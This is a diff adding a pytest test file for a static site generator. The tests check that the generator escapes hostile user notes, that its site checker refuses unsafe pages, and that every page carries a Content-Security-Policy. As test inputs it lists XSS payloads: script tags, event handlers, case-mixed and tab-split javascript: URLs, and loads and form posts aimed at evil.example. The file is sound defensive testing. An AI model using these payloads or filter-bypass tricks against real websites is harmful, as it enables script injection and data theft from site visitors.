@@ -1,0 +1,149 @@
+"""Hostile text never reaches a reader: a note is text, the site check allows only what it
+knows to be safe, and every page carries a Content-Security-Policy covering its scripts."""
+import json
+import re
+
+import pytest
+
+from generator.csp import inline_script_hash, policy_of, with_policy
+from generator.sitecheck import check_site
+from site_build import ROOT, build_site, ensure_bundle
+
+HOSTILE_NOTES = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    "[klikk](javascript:alert(1))",
+    "![bilde](https://evil.example/x.png)",
+    "<style>body{display:none}</style>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+]
+
+
+def page(body: str, head: str = "", policy: bool = True) -> str:
+    html = f'<!doctype html><html lang="nb"><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'
+    return with_policy(html) if policy else html
+
+
+def problems_of(tmp_path, body: str, head: str = "", policy: bool = True, css: str | None = None) -> list[str]:
+    site = tmp_path / "site"
+    (site / "nb").mkdir(parents=True)
+    (site / "nb" / "index.html").write_text(page(body, head, policy), encoding="utf-8")
+    if css is not None:
+        (site / "nb" / "x.css").write_text(css, encoding="utf-8")
+    return check_site(site, {"nb": ["index.md"]}, {"https://cited.example/rules"})
+
+
+def test_a_clean_page_passes(tmp_path):
+    assert problems_of(tmp_path, '<a href="https://cited.example/rules">kilde</a><img src="a.png">'
+                                 '<script src="x.js"></script>') == []
+
+
+@pytest.mark.parametrize("body, expected", [
+    ('<a href="javascript:alert(1)">x</a>', "scheme 'javascript:'"),
+    ('<a href="JaVaScRiPt:alert(1)">x</a>', "scheme 'javascript:'"),
+    ('<a href="java\tscript:alert(1)">x</a>', "scheme 'javascript:'"),
+    ('<a href=" vbscript:x">x</a>', "scheme 'vbscript:'"),
+    ('<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', "scheme 'data:'"),
+    ('<img srcset="a.png 1x, https://evil.example/b.png 2x">', "loads https://evil.example/b.png"),
+    ('<div style="background:url(https://evil.example/x.png)"></div>', "CSS loads https://evil.example/x.png"),
+    ("<style>@import 'https://evil.example/x.css';</style>", "CSS @import"),
+    ('<svg><image href="https://evil.example/x.png"/></svg>', "loads https://evil.example/x.png"),
+    ('<svg><image xlink:href="//evil.example/x.png"/></svg>', "loads //evil.example/x.png"),
+    ('<input type="image" src="a.png">', "<input type=image>"),
+    ('<video poster="https://evil.example/p.png"></video>', "loads https://evil.example/p.png"),
+    ('<form action="https://evil.example/steal"><button>x</button></form>', "<form> that sends somewhere"),
+    ('<button formaction="https://evil.example/">x</button>', "loads https://evil.example/"),
+    ('<img src="a.png" onerror="alert(1)">', "inline event handler"),
+    ('<svg onload="alert(1)"></svg>', "inline event handler"),
+    ('<base href="https://evil.example/">', "<base>"),
+    ('<a href="https://uncited.example/">x</a>', "not a cited source"),
+    ('<a href="/nb/">x</a>', "starts at the server's root"),
+    ('<link rel="stylesheet" href="https://evil.example/x.css">', "loads https://evil.example/x.css"),
+])
+def test_every_way_out_is_refused(tmp_path, body, expected):
+    problems = problems_of(tmp_path, body)
+    assert any(expected in p for p in problems), problems
+
+
+def test_an_inline_script_the_policy_does_not_name_is_refused(tmp_path):
+    html = page("<p>x</p>", head="<script>var ok = 1;</script>")
+    smuggled = html.replace("</body>", "<script>alert(1)</script></body>")
+    site = tmp_path / "site"
+    (site / "nb").mkdir(parents=True)
+    (site / "nb" / "index.html").write_text(smuggled, encoding="utf-8")
+    problems = check_site(site, {"nb": ["index.md"]}, set())
+    assert any("inline script the Content-Security-Policy does not allow: 'alert(1)'" in p for p in problems), problems
+    assert not any("var ok" in p for p in problems)
+
+
+def test_a_page_without_a_policy_is_refused(tmp_path):
+    assert any("no Content-Security-Policy" in p for p in problems_of(tmp_path, "<p>x</p>", policy=False))
+
+
+def test_stylesheets_of_the_site_may_not_load_from_elsewhere(tmp_path):
+    problems = problems_of(tmp_path, "<p>x</p>", css="@font-face{src:url('https://fonts.example/f.woff2')}")
+    assert any("x.css: CSS loads https://fonts.example/f.woff2" in p for p in problems), problems
+
+
+def test_the_policy_names_each_inline_script_and_nothing_unsafe():
+    html = with_policy(page("<p>x</p>", head="<script>var a=1;</script>", policy=False))
+    policy = policy_of(re.search(r'Content-Security-Policy" content="([^"]*)"', html).group(1))
+    assert policy["default-src"] == ["'self'"]
+    assert f"'{inline_script_hash('var a=1;')}'" in policy["script-src"]
+    assert "'unsafe-inline'" not in policy["script-src"]
+    assert html.index("Content-Security-Policy") < html.index("<script>")
+
+
+# -- end to end: a bundle carrying hostile notes builds a site in which they are only text
+
+@pytest.fixture(scope="module")
+def bundle_with(tmp_path_factory):
+    original = json.loads(ensure_bundle().read_text(encoding="utf-8"))
+
+    def make(notes: dict) -> "Path":
+        bundle = json.loads(json.dumps(original))
+        bundle["examples"][0]["steps"][1]["notes"] = notes
+        path = tmp_path_factory.mktemp("bundle") / "verified.json"
+        path.write_text(json.dumps(bundle, ensure_ascii=False), encoding="utf-8")
+        return path
+    return make
+
+
+def test_hostile_notes_reach_the_page_as_text(bundle_with, tmp_path):
+    note = " ".join(HOSTILE_NOTES)
+    r = build_site(tmp_path / "site", bundle=bundle_with({"nb": note, "da": note}))
+    assert r.returncode == 0, r.stderr
+    html = (tmp_path / "site" / "nb" / "examples" / "index.html").read_text(encoding="utf-8")
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "<script>alert(1)" not in html and "onerror=alert" not in html.replace("onerror=alert(1)&gt;", "")
+    assert "<style>body{display:none}" not in html
+    assert 'href="javascript:' not in html.lower() and "evil.example/x.png\"" not in html
+
+
+def test_a_number_in_a_note_stops_the_build(bundle_with, tmp_path):
+    r = build_site(tmp_path / "site", bundle=bundle_with({"nb": "99 % vinner", "da": "Godt træk"}))
+    assert r.returncode != 0
+    assert "the nb note contains a number typed by hand ('99 % vinner')" in r.stderr
+    assert re.search(r"examples/\S+\.yaml, line \d+, move 2", r.stderr), r.stderr
+    assert not (tmp_path / "site").exists()
+
+
+def test_a_note_in_one_language_only_stops_the_build(bundle_with, tmp_path):
+    r = build_site(tmp_path / "site", bundle=bundle_with({"nb": "Et godt trekk."}))
+    assert r.returncode != 0
+    assert "the note has no da text" in r.stderr
+
+
+def test_a_stray_file_in_app_is_not_published(tmp_path, monkeypatch):
+    from generator import site
+    from generator.errors import BuildError
+
+    app = tmp_path / "app"
+    app.mkdir()
+    (app / "game.js").write_text("export {};")
+    (app / "evil.html").write_text("<script>alert(1)</script>")
+    with pytest.raises(BuildError, match=r"evil.html: not part of the game"):
+        site.copy_game(app, tmp_path / "out")
+    assert not (tmp_path / "out").exists()
